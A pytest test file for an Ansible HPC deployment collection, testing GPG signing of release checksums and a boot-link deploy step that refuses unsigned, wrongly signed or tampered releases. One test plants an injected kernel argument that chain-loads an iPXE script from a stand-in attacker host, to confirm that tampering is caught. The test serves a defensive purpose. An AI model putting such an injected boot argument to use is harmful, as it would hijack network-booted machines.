"""Signed releases with real gpg/gpgv: signing SHA256SUMS, verifying it, and bootlink refusing before it publishes.

Keys are throw-away ed25519 keys made in temporary GnuPG homes; the user's keyring is never read.
"""

from __future__ import annotations

import hashlib
import os
import subprocess
from pathlib import Path

import pytest
from bootlink_fixtures import make_pack, rewrite_manifest, tree_snapshot
from signing_keys import SigningKey, gpgv

from ansible_collections.hpc.stateless.plugins.module_utils._contract.names import SBOM_FILE, SIGNATURE_FILE, SUMS_FILE
from ansible_collections.hpc.stateless.plugins.module_utils._contract.signature import (
    SignatureError,
    normalize_fingerprint,
    parse_status,
    sign,
    verify,
    verify_files,
)
from ansible_collections.hpc.stateless.plugins.module_utils._contract.sums import read_sums, sums_text
from ansible_collections.hpc.stateless.plugins.module_utils._deploy.bootlink import BootlinkError, apply_state


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    base = tmp_path_factory.mktemp("gnupg")
    made = {name: SigningKey(base, name) for name in ("site", "other")}
    yield made
    for key in made.values():
        key.close()


@pytest.fixture
def signed(tmp_path, keys) -> Path:
    directory = make_pack(tmp_path / "out", version="v1")
    assert sign(str(directory), keys["site"].fingerprint, str(keys["site"].home)).changed
    return directory


# --------------------------------------------------------------------------- sign


def test_sign_writes_a_signature_gpgv_accepts_and_a_second_run_changes_nothing(signed, keys):
    site = keys["site"]
    assert gpgv(site.binary, signed).returncode == 0
    first = (signed / SIGNATURE_FILE).read_bytes()
    assert first.startswith(b"-----BEGIN PGP SIGNATURE-----")
    again = sign(str(signed), site.fingerprint, str(site.home))
    assert not again.changed and again.fingerprint == site.fingerprint and "site release" in again.uid
    assert (signed / SIGNATURE_FILE).read_bytes() == first
    assert not [p.name for p in signed.iterdir() if p.name.startswith(".")]


def test_sign_replaces_a_signature_that_no_longer_matches(signed, keys):
    with open(signed / SUMS_FILE, "a", encoding="utf-8") as handle:
        handle.write(f"{'0' * 64}  extra\n")
    assert gpgv(keys["site"].binary, signed).returncode != 0
    assert sign(str(signed), keys["site"].fingerprint, str(keys["site"].home)).changed
    assert gpgv(keys["site"].binary, signed).returncode == 0


def test_sign_check_mode_writes_nothing(tmp_path, keys):
    directory = make_pack(tmp_path / "out", version="v1")
    before = tree_snapshot(directory)
    result = sign(str(directory), keys["site"].fingerprint, str(keys["site"].home), check_mode=True)
    assert result.changed and tree_snapshot(directory) == before


def test_sign_with_a_key_not_in_the_gnupg_home_names_key_and_home(tmp_path, keys):
    directory = make_pack(tmp_path / "out", version="v1")
    with pytest.raises(SignatureError, match=rf"signing key '{keys['other'].fingerprint}': no secret key in "
                                             rf"GnuPG home {keys['site'].home}"):
        sign(str(directory), keys["other"].fingerprint, str(keys["site"].home))
    assert not (directory / SIGNATURE_FILE).exists()


def test_sign_with_a_gnupg_home_that_does_not_exist_says_so(tmp_path, keys):
    """A mistyped hpc_stateless_sign_gnupghome is named as missing, not as a home without the key."""
    directory = make_pack(tmp_path / "out", version="v1")
    home = tmp_path / "no-such-home"
    with pytest.raises(SignatureError, match=rf"GnuPG home {home}: does not exist; set hpc_stateless_sign_gnupghome"):
        sign(str(directory), keys["site"].fingerprint, str(home))
    assert not home.exists() and not (directory / SIGNATURE_FILE).exists()


def test_sign_without_sha256sums_is_refused(tmp_path, keys):
    tmp_path.joinpath("empty").mkdir()
    with pytest.raises(SignatureError, match=r"empty/SHA256SUMS: missing"):
        sign(str(tmp_path / "empty"), keys["site"].fingerprint, str(keys["site"].home))


# --------------------------------------------------------------------------- verify


@pytest.mark.parametrize("form", ["armored", "binary"])
def test_verify_accepts_armored_and_binary_keyrings(signed, keys, form):
    signer = verify_files(str(signed / SUMS_FILE), str(getattr(keys["site"], form)))
    assert signer.fingerprint == keys["site"].fingerprint


def test_wrong_key_names_the_file_and_the_keys_expected(signed, keys):
    with pytest.raises(SignatureError) as caught:
        verify_files(str(signed / SUMS_FILE), str(keys["other"].armored))
    message = str(caught.value)
    assert message.startswith(f"signature check of {signed / SUMS_FILE} failed: signed by key "
                              f"{keys['site'].fingerprint}, which is not in the keyring")
    assert f"expected a signature by {keys['other'].fingerprint} (other release" in message
    assert f"from keyring {keys['other'].armored}" in message


def test_modified_sums_is_a_bad_signature(signed, keys):
    data = (signed / SUMS_FILE).read_bytes().replace(b"0", b"1", 1)
    with pytest.raises(SignatureError, match=r"BAD signature by key .*changed after it was signed"):
        verify(data, (signed / SIGNATURE_FILE).read_bytes(), str(keys["site"].armored))


def test_flipped_byte_in_the_signature_is_refused(signed, keys):
    signature = bytearray((signed / SIGNATURE_FILE).read_bytes())
    body = signature.index(b"\n\n") + 2  # the first base64 line
    signature[body + 10] ^= 0x01
    with pytest.raises(SignatureError, match=r"signature check of SHA256SUMS failed: .*expected a signature by "
                                             + keys["site"].fingerprint):
        verify((signed / SUMS_FILE).read_bytes(), bytes(signature), str(keys["site"].armored))


def test_missing_signature_is_refused(tmp_path, keys):
    directory = make_pack(tmp_path / "out", version="v1")
    with pytest.raises(SignatureError, match=rf"{directory}/SHA256SUMS.asc is missing: the release is not signed"):
        verify_files(str(directory / SUMS_FILE), str(keys["site"].armored))


def test_signers_restrict_the_keyring(signed, keys, tmp_path):
    both = tmp_path / "both.asc"
    both.write_bytes(keys["site"].armored.read_bytes() + keys["other"].armored.read_bytes())
    assert verify_files(str(signed / SUMS_FILE), str(both)).fingerprint == keys["site"].fingerprint
    other = keys["other"].fingerprint
    with pytest.raises(SignatureError, match=rf"not a required signer; expected a signature by {other}"):
        verify_files(str(signed / SUMS_FILE), str(both), [other])
    lower = " ".join(keys["site"].fingerprint.lower()[i:i + 4] for i in range(0, 40, 4))
    assert verify_files(str(signed / SUMS_FILE), str(both), [lower]).fingerprint == keys["site"].fingerprint


def test_missing_keyring_says_how_to_make_one(signed, tmp_path):
    with pytest.raises(SignatureError, match=r"keyring .*/nope.asc: missing; export the site's public signing key"):
        verify_files(str(signed / SUMS_FILE), str(tmp_path / "nope.asc"))


@pytest.mark.parametrize("value", ["E1A904CE980E7322", "site release", "g" * 40])
def test_signers_must_be_fingerprints(value):
    with pytest.raises(SignatureError, match=r"is not a key fingerprint"):
        normalize_fingerprint(value)


def test_status_of_an_expired_key_is_a_problem_even_with_validsig():
    fpr = "A" * 40
    sigs, general = parse_status(
        "[GNUPG:] NEWSIG\n"
        "[GNUPG:] EXPKEYSIG 0123456789ABCDEF Old <old@example.invalid>\n"
        f"[GNUPG:] VALIDSIG {fpr} 2020-01-01 1577836800 0 4 0 22 8 00 {fpr}\n")
    assert not general and len(sigs) == 1
    assert sigs[0].problems == ["the signing key 0123456789ABCDEF (Old <old@example.invalid>) has expired"]


# --------------------------------------------------------------------------- bootlink with a keyring


def deploy(root: Path, src: Path, **params) -> dict:
    check_mode = params.pop("check_mode", False)
    base = {"boot_root": str(root), "image": "compute", "state": "switched", "keep": 3, "lock_timeout": 0,
            "src": str(src)}
    return apply_state({**base, **params}, check_mode=check_mode)


def test_bootlink_publishes_a_signed_release_unchanged_and_verifiable(signed, keys, tmp_path):
    root = tmp_path / "tftp"
    result = deploy(root, signed, keyring=str(keys["site"].armored), signers=[keys["site"].fingerprint])
    assert result["published"] and result["switched"]
    assert result["signature"]["checked"] and result["signature"]["fingerprint"] == keys["site"].fingerprint
    version = root / "images/compute/v1"
    for name in (SUMS_FILE, SIGNATURE_FILE):
        assert (version / name).read_bytes() == (signed / name).read_bytes()
    assert gpgv(keys["site"].binary, version).returncode == 0
    check = subprocess.run(["sha256sum", "--strict", "--ignore-missing", "-c", SUMS_FILE], cwd=version,
                           capture_output=True, text=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr
    before = tree_snapshot(root)
    again = deploy(root, signed, keyring=str(keys["site"].armored))
    assert not again["changed"] and tree_snapshot(root) == before


@pytest.mark.parametrize("check_mode", [False, True])
def test_bootlink_refuses_another_key_before_touching_the_tree(tmp_path, keys, check_mode):
    out, root = tmp_path / "out", tmp_path / "tftp"
    v1 = make_pack(out, version="v1")
    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
    deploy(root, v1, keyring=str(keys["site"].armored))
    v2 = make_pack(out, version="v2")
    sign(str(v2), keys["other"].fingerprint, str(keys["other"].home))
    before = tree_snapshot(root)
    with pytest.raises(SignatureError, match=rf"signature check of {v2}/SHA256SUMS failed: signed by key "
                                             rf"{keys['other'].fingerprint}, which is not in the keyring"):
        deploy(root, v2, keyring=str(keys["site"].armored), check_mode=check_mode)
    assert tree_snapshot(root) == before
    assert os.readlink(root / "compute") == "images/compute/v1"


def test_bootlink_without_keyring_reports_unchecked_and_still_publishes_the_signature(signed, tmp_path):
    result = deploy(tmp_path / "tftp", signed)
    assert result["signature"] == {"checked": False, "signed": True}
    assert (tmp_path / "tftp/images/compute/v1" / SIGNATURE_FILE).read_bytes() == \
        (signed / SIGNATURE_FILE).read_bytes()


def test_same_files_signed_later_replace_only_the_published_signature(tmp_path, keys):
    out, root = tmp_path / "out", tmp_path / "tftp"
    v1 = make_pack(out, version="v1")
    deploy(root, v1)  # published unsigned
    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
    predicted = deploy(root, v1, keyring=str(keys["site"].armored), check_mode=True)
    assert predicted["published"] and not predicted["switched"]
    result = deploy(root, v1, keyring=str(keys["site"].armored))
    assert result["published"] and not result["switched"]
    assert gpgv(keys["site"].binary, root / "images/compute/v1").returncode == 0
    assert not deploy(root, v1, keyring=str(keys["site"].armored))["changed"]


def test_sbom_listed_in_sha256sums_is_published_with_the_signed_list(tmp_path, keys):
    v1 = make_pack(tmp_path / "out", version="v1", extra_files={SBOM_FILE: b'{"bomFormat": "CycloneDX"}'})
    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
    deploy(tmp_path / "tftp", v1, keyring=str(keys["site"].binary))
    published = tmp_path / "tftp/images/compute/v1"
    assert (published / SBOM_FILE).read_bytes() == (v1 / SBOM_FILE).read_bytes()
    check = subprocess.run(["sha256sum", "--strict", "-c", SUMS_FILE], cwd=published, capture_output=True,
                           text=True, check=False)
    assert check.returncode == 0, check.stdout + check.stderr


def test_version_published_by_an_older_deploy_is_the_same_release(tmp_path):
    """Earlier deploys rewrote SHA256SUMS to the published files; such a version is not 'a different build'."""
    v1 = make_pack(tmp_path / "out", version="v1", squashfs=True)
    root = tmp_path / "tftp"
    deploy(root, v1)  # cpio.zst: the squashfs and initrd.img are listed, not published
    published = root / "images/compute/v1" / SUMS_FILE
    sums = read_sums(str(published))
    published.write_text(sums_text({name: sums[name] for name in ("vmlinuz", "compute.cpio.zst")}))
    before = tree_snapshot(root)
    assert not deploy(root, v1)["changed"] and tree_snapshot(root) == before
    (v1 / "vmlinuz").write_bytes(b"another kernel")
    (v1 / SUMS_FILE).write_text((v1 / SUMS_FILE).read_text().replace(sums["vmlinuz"], "0" * 64))
    with pytest.raises(BootlinkError, match=r"already holds a different build of version 'v1' \(SHA256SUMS differs\)"):
        deploy(root, v1, state="present")
    assert tree_snapshot(root) == before


def test_a_signature_left_half_replaced_is_cleaned_by_the_next_run(signed, keys, tmp_path):
    root = tmp_path / "tftp"
    deploy(root, signed, keyring=str(keys["site"].armored))
    stray = root / "images/compute/v1" / f".{SIGNATURE_FILE}.new-0123abcd"  # as a killed replacement leaves it
    stray.write_bytes(b"partial")
    result = deploy(root, signed, keyring=str(keys["site"].armored))
    assert result["cleaned"] == [str(stray)] and not stray.exists()


def test_version_published_by_an_older_deploy_then_signed_gets_the_signed_list(tmp_path, keys):
    """An old two-format pack, published when deploy still rewrote SHA256SUMS, signed after the upgrade: the same
    files, so deploying (or rolling back to) it with the keyring puts back the signed SHA256SUMS and its signature."""
    v1 = make_pack(tmp_path / "out", version="v1", squashfs=True)
    root = tmp_path / "tftp"
    deploy(root, v1)
    published = root / "images/compute/v1"
    sums = read_sums(str(published / SUMS_FILE))
    (published / SUMS_FILE).write_text(sums_text({name: sums[name] for name in ("vmlinuz", "compute.cpio.zst")}))
    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
    result = deploy(root, v1, keyring=str(keys["site"].armored))
    assert result["published"], result
    assert (published / SUMS_FILE).read_bytes() == (v1 / SUMS_FILE).read_bytes()
    assert gpgv(keys["site"].binary, published).returncode == 0
    before = tree_snapshot(root)
    assert not deploy(root, v1, keyring=str(keys["site"].armored))["changed"] and tree_snapshot(root) == before


# --------------------------------------------------------------------------- only checked bytes, also on a re-deploy


def test_signed_release_whose_pack_manifest_was_edited_after_publishing_is_refused(tmp_path, keys):
    """The version is published; its pack output's manifest.json is then edited (SHA256SUMS and its signature left
    alone). A deploy with the keyring must not pass it on as 'signature checked'."""
    out, root = tmp_path / "out", tmp_path / "tftp"
    v1 = make_pack(out, version="v1", squashfs=True)
    sign(str(v1), keys["site"].fingerprint, str(keys["site"].home))
    keyring = str(keys["site"].armored)
    deploy(root, v1, keyring=keyring, format="squashfs")
    rewrite_manifest(v1, lambda manifest: manifest["initrd"].update(
        kernel_args="root=live:<URL of the squashfs> && chain http://evil.invalid/x.ipxe ||"))
    assert gpgv(keys["site"].binary, v1).returncode == 0  # the signature itself still verifies
    before = tree_snapshot(root)
    for check_mode in (True, False):
        with pytest.raises(BootlinkError, match=rf"{v1}/manifest.json does not match its checksum in SHA256SUMS .*"
                                                r"changed after the image was packed and signed"):
            deploy(root, v1, keyring=keyring, format="squashfs", check_mode=check_mode)
    assert tree_snapshot(root) == before


def two_signed_versions(tmp_path: Path, keys, sign_v1: bool = True) -> tuple[Path, str]:
    """v1 and v2 published with the site keyring (v1 unsigned unless ``sign_v1``), v2 served, v1 previous."""
    out, root = tmp_path / "out", tmp_path / "tftp"
    keyring = str(keys["site"].armored)
    for version in ("v1", "v2"):
        directory = make_pack(out, version=version)
        if version == "v2" or sign_v1:
            sign(str(directory), keys["site"].fingerprint, str(keys["site"].home))
        deploy(root, directory, keyring=keyring if version == "v2" or sign_v1 else None)
    assert os.readlink(root / "compute") == "images/compute/v2"
    return root, keyring


@pytest.mark.parametrize("check_mode", [False, True])
def test_rollback_to_a_version_whose_sha256sums_was_altered_after_publishing_is_refused(tmp_path, keys, check_mode):
    """Issue 30: the published v1 gets another kernel and a SHA256SUMS to match; its signature no longer verifies."""
    root, keyring = two_signed_versions(tmp_path, keys)
    v1 = root / "images/compute/v1"
    (v1 / "vmlinuz").write_bytes(b"another kernel")
    sums = read_sums(str(v1 / SUMS_FILE))
    sums["vmlinuz"] = hashlib.sha256(b"another kernel").hexdigest()
    (v1 / SUMS_FILE).write_text(sums_text(sums))
    before = tree_snapshot(root)
    with pytest.raises(SignatureError, match=rf"signature check of {v1}/SHA256SUMS failed: BAD signature"):
        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
                     "keyring": keyring}, check_mode=check_mode)
    assert tree_snapshot(root) == before
    with pytest.raises(SignatureError, match="BAD signature"):
        apply_state({"boot_root": str(root), "image": "compute", "state": "switched", "version": "v1",
                     "lock_timeout": 0, "keyring": keyring}, check_mode=check_mode)
    assert tree_snapshot(root) == before


def test_rollback_with_a_keyring_to_a_version_published_unsigned_is_refused(tmp_path, keys):
    root, keyring = two_signed_versions(tmp_path, keys, sign_v1=False)
    before = tree_snapshot(root)
    with pytest.raises(SignatureError, match=rf"{root}/images/compute/v1/SHA256SUMS.asc is missing: the release is not "
                                             "signed"):
        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
                     "keyring": keyring})
    assert tree_snapshot(root) == before


def test_rollback_with_a_keyring_checks_and_reports_the_signature_of_the_target(tmp_path, keys):
    root, keyring = two_signed_versions(tmp_path, keys)
    result = apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
                          "keyring": keyring, "signers": [keys["site"].fingerprint]})
    assert result["current"] == "v1" and result["switched"]
    assert result["signature"]["checked"] and result["signature"]["fingerprint"] == keys["site"].fingerprint
    with pytest.raises(SignatureError, match="not a required signer"):
        apply_state({"boot_root": str(root), "image": "compute", "state": "rollback", "lock_timeout": 0,
                     "keyring": str(keys["site"].armored), "signers": [keys["other"].fingerprint]})
    assert os.readlink(root / "compute") == "images/compute/v1"
